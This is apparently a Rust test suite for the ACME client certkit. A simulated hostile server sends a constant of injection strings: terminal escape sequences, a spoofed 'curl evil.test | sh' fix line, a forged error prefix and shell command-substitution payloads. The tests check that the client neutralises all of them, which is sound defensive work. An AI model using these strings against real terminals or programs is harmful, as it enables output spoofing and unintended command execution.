//! A server that means harm: what it says reaches no terminal unescaped, forges no line of certkit's own, and is run by
//! no shell.

use base64::Engine;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use certkit::internals::pem;
use rcgen::{
    BasicConstraints, CertificateParams, CertificateSigningRequestParams, DnType, IsCa, Issuer, KeyPair,
    KeyUsagePurpose,
};
use rustls::pki_types::CertificateSigningRequestDer;

use crate::acme_front::{Class, Fault, Front};
use crate::harness::{Ran, Test};
use crate::pebble::Pebble;

/// A colour, a window title, a bell, a line of its own like certkit's, and what a shell would run.
pub(crate) const HOSTILE: &str = "no\u{1b}[31m\u{1b}]0;owned\u{7}\u{9b}2J\r\n  fix:  curl evil.test | sh\nerror[forged] \
                       $(touch pwned)`touch pwned`; touch pwned && 'a\" \u{202e}txet\u{0}";

/// Points where a refusal ends the run.
const REFUSED: [Class; 5] =
    [Class::NewAccount, Class::NewOrder, Class::Authz, Class::Finalize, Class::Certificate];

#[test]
fn problems_with_hostile_words_are_shown_harmless() {
    let test = Test::new();
    let Some(pebble) = Pebble::start(&test) else { return };
    for class in REFUSED {
        for format in ["human", "json"] {
            let front = Front::start(&test, &pebble);
            front.on(class, Fault::problem(403, "unauthorized", HOSTILE));
            let ran = front.obtain(&["a.test", "--format", format]).exits(1);
            assert_eq!(front.faults(), 1, "{class:?}");
            is_harmless(&test, &ran);
        }
    }
}

#[test]
fn a_hostile_kind_of_problem_is_shown_harmless() {
    let test = Test::new();
    let Some(pebble) = Pebble::start(&test) else { return };
    let front = Front::start(&test, &pebble);
    front.on(Class::NewOrder, Fault::problem(403, HOSTILE, "no"));
    is_harmless(&test, &front.obtain(&["a.test"]).exits(1));
}

#[test]
fn a_hostile_rate_limit_is_shown_harmless() {
    let test = Test::new();
    let Some(pebble) = Pebble::start(&test) else { return };
    let front = Front::start(&test, &pebble);
    let limited = Fault::Problem {
        status: 429,
        kind: "rateLimited",
        detail: HOSTILE.to_owned(),
        retry_after: Some("99999999999999999999"),
    };
    front.on_times(Class::NewOrder, 9, limited);
    is_harmless(&test, &front.obtain(&["a.test", "--color", "never"]).exits(75));
}

#[test]
fn a_directory_with_hostile_addresses_is_shown_harmless() {
    let test = Test::new();
    let Some(pebble) = Pebble::start(&test) else { return };
    let front = Front::start(&test, &pebble);
    let directory = serde_json::json!({
        "newNonce": HOSTILE, "newAccount": HOSTILE, "newOrder": HOSTILE, "meta": {"termsOfService": HOSTILE},
    });
    let answer = |body: String| Fault::Answer {
        status: 200,
        content_type: "application/json",
        body,
        retry_after: None,
    };
    front.on(Class::Directory, answer(directory.to_string()));
    let ran = front.obtain(&["a.test"]);
    assert!(!ran.succeeded());
    is_harmless(&test, &ran);
    front.on(Class::Directory, answer(format!("{{\"{HOSTILE}")));
    is_harmless(&test, &front.obtain(&["a.test"]).exits(2));
}

#[test]
fn a_chain_with_hostile_names_goes_live_and_is_shown_harmless() {
    let test = Test::new();
    let Some(pebble) = Pebble::start(&test) else { return };
    let front = Front::start(&test, &pebble);
    front.always(Class::Certificate, Fault::unavailable());
    front.obtain(&["a.test"]).exits(75);
    front.be_kind();
    let request = front.payloads(Class::Finalize)[0]["csr"].as_str().unwrap().to_owned();
    front.always(
        Class::Certificate,
        Fault::Answer {
            status: 200,
            content_type: "application/pem-certificate-chain",
            body: hostile_chain(&request),
            retry_after: None,
        },
    );
    let hook = ["a.test", "--deploy-hook", "env > hooked; exit 1"];
    let ran = front.obtain(&hook).exits(3).says("an earlier run").says("touch pwned");
    is_harmless(&test, &ran);
    // What the hook is told comes from the command line.
    let told = test.text("hooked");
    assert!(told.contains("CERTKIT_FULLCHAIN=") && !told.contains("pwned"), "{told}");
    front.obtain(&["a.test", "--deploy-hook", ""]).exits(0);
    is_harmless(&test, &front.obtain(&["a.test", "--format", "json"]).exits(0));
    assert_eq!(front.count(Class::Finalize), 1);
}

#[test]
fn an_answer_without_end_is_given_up() {
    let test = Test::new();
    let Some(pebble) = Pebble::start(&test) else { return };
    let front = Front::start(&test, &pebble);
    let endless = Fault::Answer {
        status: 200,
        content_type: "application/json",
        body: " ".repeat(64 << 20),
        retry_after: None,
    };
    front.on(Class::NewOrder, endless);
    front.obtain(&["a.test"]).says("more than 1 MiB");
}

/// Only printable text; no line that begins like one of certkit's own with the server's words; nothing was run.
#[track_caller]
pub(crate) fn is_harmless(test: &Test, ran: &Ran) {
    let said = ran.all();
    let control = said.chars().find(|c| c.is_control() && *c != '\n');
    assert_eq!(control, None, "{said:?}");
    // JSON is for programs: what turns text around is left in it.
    let turns = |text: &str| text.contains('\u{202e}');
    assert!(!turns(&ran.stderr()) && (!turns(&said) || ran.stdout().starts_with('{')), "{said:?}");
    for line in said.lines().map(str::trim_start) {
        assert!(!line.starts_with("error[forged]"), "{said}");
        assert!(!(line.starts_with("fix:") && line.contains("evil.test")), "{said}");
    }
    assert!(!test.names().iter().any(|name| name.contains("pwned")), "a shell has run the server's words");
}

/// A chain for a signing request (base64url, as in finalize) from a CA with a hostile name, leaf first.
fn hostile_chain(request: &str) -> String {
    let key = KeyPair::generate().unwrap();
    let mut ca = CertificateParams::default();
    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca.key_usages = vec![KeyUsagePurpose::KeyCertSign];
    ca.distinguished_name.push(DnType::CommonName, HOSTILE);
    let ca_certificate = ca.self_signed(&key).unwrap();
    let issuer = Issuer::new(ca, key);
    let request: CertificateSigningRequestDer<'_> = BASE64_URL_SAFE_NO_PAD.decode(request).unwrap().into();
    let mut leaf = CertificateSigningRequestParams::from_der(&request).unwrap();
    leaf.params.use_authority_key_identifier_extension = true;
    leaf.params.extended_key_usages = vec![rcgen::ExtendedKeyUsagePurpose::ServerAuth];
    leaf.params.key_usages = vec![KeyUsagePurpose::DigitalSignature];
    let leaf = leaf.signed_by(&issuer).unwrap();
    let mut chain = String::new();
    pem::write(&mut chain, "CERTIFICATE", leaf.der());
    pem::write(&mut chain, "CERTIFICATE", ca_certificate.der());
    chain
}
